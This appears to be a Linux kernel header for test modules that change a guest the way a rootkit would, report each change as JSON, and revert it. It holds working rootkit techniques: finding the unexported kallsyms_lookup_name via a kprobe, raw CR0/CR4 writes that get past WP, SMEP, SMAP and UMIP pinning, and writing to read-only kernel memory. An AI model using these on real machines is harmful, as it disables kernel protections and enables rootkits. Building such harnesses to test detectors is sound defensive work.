/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * What the attacks have in common. They change a guest as a rootkit does, say
 * what they changed in one line of JSON each, and put it back when unloaded.
 */
#ifndef _ATTACK_H
#define _ATTACK_H

#include <linux/irqflags.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

/* The address of any symbol: kallsyms_lookup_name() is not exported. */
static inline unsigned long symbol_address(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&kp))
		return 0;
	lookup = (void *)kp.addr;
	unregister_kprobe(&kp);
	return lookup(name);
}

/* Past native_write_cr0(), which insists on WP. */
static inline void set_cr0(unsigned long cr0)
{
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
}

/* Past native_write_cr4(), which insists on SMEP, SMAP and UMIP. */
static inline void set_cr4(unsigned long cr4)
{
	asm volatile("mov %0, %%cr4" : : "r"(cr4) : "memory");
}

/* Writes to memory that is mapped read-only. */
static inline void write_protected(void *to, const void *from, size_t size)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	set_cr0(cr0 & ~X86_CR0_WP);
	memcpy(to, from, size);
	set_cr0(cr0);
	local_irq_restore(flags);
}

/* A cpu or entry of -1: there is none. */
static inline void report(const char *object, int cpu, int entry, u64 old, u64 new)
{
	pr_warn("attack: {\"object\":\"%s\",\"cpu\":%d,\"entry\":%d,\"old\":\"0x%llx\",\"new\":\"0x%llx\"}\n",
		object, cpu, entry, old, new);
}

#endif
